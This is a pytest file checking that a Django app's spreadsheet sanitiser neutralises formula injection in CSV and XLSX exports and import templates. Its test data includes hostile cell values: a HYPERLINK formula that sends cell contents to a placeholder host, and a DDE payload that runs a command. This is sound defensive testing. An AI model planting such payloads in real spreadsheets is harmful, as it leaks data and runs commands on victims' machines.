"""One spreadsheet sanitiser for every writer (apps/common/spreadsheet.py): `=`, `+`, `-`, `@`, tab and CR
at the start of a text never become a formula, in CSV or XLSX, in list exports and every import template;
the report lab's export: apps/reports/tests/test_spreadsheet_injection.py."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from django.conf import settings
from drf_spectacular.generators import SchemaGenerator
from openpyxl import Workbook, load_workbook

from apps.common.spreadsheet import FORMULA_STARTS, csv_value, safe_text, xlsx_append
from apps.products.models import Product

HOSTILE = [
    '=HYPERLINK("http://x/?"&A1,"c")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
]


def test_text_starting_like_a_formula_gets_an_apostrophe_numbers_stay():
    for text in HOSTILE:
        assert safe_text(text) == "'" + text
    assert set(FORMULA_STARTS) == {"=", "+", "-", "@", "\t", "\r"}
    for text in ("-12.5", "+3", "Carton 600x400", "", "a=b"):
        assert safe_text(text) == text
    assert csv_value(None) == "" and csv_value(5) == 5


@pytest.mark.parametrize("write_only", [False, True])
def test_xlsx_text_cells_are_typed_as_text(write_only):
    workbook = Workbook(write_only=write_only)
    sheet = workbook.create_sheet("s") if write_only else workbook.active
    xlsx_append(sheet, ["name", "count"])
    for text in HOSTILE:
        xlsx_append(sheet, [text, 3])
    buffer = io.BytesIO()
    workbook.save(buffer)
    loaded = load_workbook(io.BytesIO(buffer.getvalue())).worksheets[0]
    cells = [row[0] for row in loaded.iter_rows(min_row=2)]
    assert len(cells) == len(HOSTILE)
    for cell, text in zip(cells, HOSTILE, strict=True):
        assert cell.data_type == "s", (text, cell.data_type)
        assert cell.value.startswith("'")
    assert [row[1].value for row in loaded.iter_rows(min_row=2)] == [3] * len(HOSTILE)


def _csv_cells(response) -> list[list[str]]:
    body = b"".join(response.streaming_content) if getattr(response, "streaming", False) else response.content
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def _unsafe(value) -> bool:
    return (
        isinstance(value, str)
        and value[:1] in FORMULA_STARTS
        and not re.fullmatch(r"[-+]?\d+(\.\d+)?", value)
    )


@pytest.mark.django_db
def test_list_exports_write_hostile_names_as_text(tenant3, make_user, api, in_tenant):
    with in_tenant(tenant3):
        for n, text in enumerate(HOSTILE):
            Product.objects.create(article_number=f"INJ-{n}", name=text)
    client = api(make_user(tenant3, "Administrator"), tenant3)
    rows = _csv_cells(client.get("/api/products/export/", {"format": "csv"}))
    values = [value for row in rows for value in row]
    assert all(not _unsafe(value) for value in values)
    assert "'" + HOSTILE[0] in values
    response = client.get("/api/products/export/", {"format": "xlsx"})
    sheet = load_workbook(io.BytesIO(response.content)).active
    texts = [cell for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)]
    assert texts and all(cell.data_type == "s" and not _unsafe(cell.value) for cell in texts)
    assert any(cell.value == "'" + HOSTILE[0] for cell in texts)


@pytest.mark.django_db
def test_every_import_template_goes_through_the_sanitiser(tenant3, make_user, api):
    schema = SchemaGenerator().get_schema(request=None, public=True)
    paths = sorted(p for p in schema["paths"] if p.endswith("/import-template/") and "{" not in p)
    assert paths
    client = api(make_user(tenant3, "Administrator"), tenant3)
    for path in paths:
        csv_response = client.get(path, {"format": "csv"})
        assert csv_response.status_code == 200, path
        assert not any(_unsafe(value) for row in _csv_cells(csv_response) for value in row), path
        xlsx_response = client.get(path, {"format": "xlsx"})
        assert xlsx_response.status_code == 200, path
        sheet = load_workbook(io.BytesIO(xlsx_response.content)).active
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    assert cell.data_type == "s" and not _unsafe(cell.value), (path, cell.value)


def test_no_module_writes_a_spreadsheet_around_the_sanitiser():
    apps_dir = Path(settings.BASE_DIR) / "apps"
    writers = []
    for path in apps_dir.rglob("*.py"):
        if "tests" in path.parts or path.name == "spreadsheet.py":
            continue
        text = path.read_text(encoding="utf-8")
        if re.search(r"csv\.writer\(|\bWorkbook\(", text):
            writers.append(path)
            assert "apps.common.spreadsheet" in text, f"{path}: write rows with apps.common.spreadsheet"
            assert not re.search(r"\bsheet\.append\(", text), f"{path}: use xlsx_append, not sheet.append"
            assert not re.search(r"writer\.writerow\((?!csv_row\()", text), f"{path}: wrap rows in csv_row"
    assert len(writers) >= 4
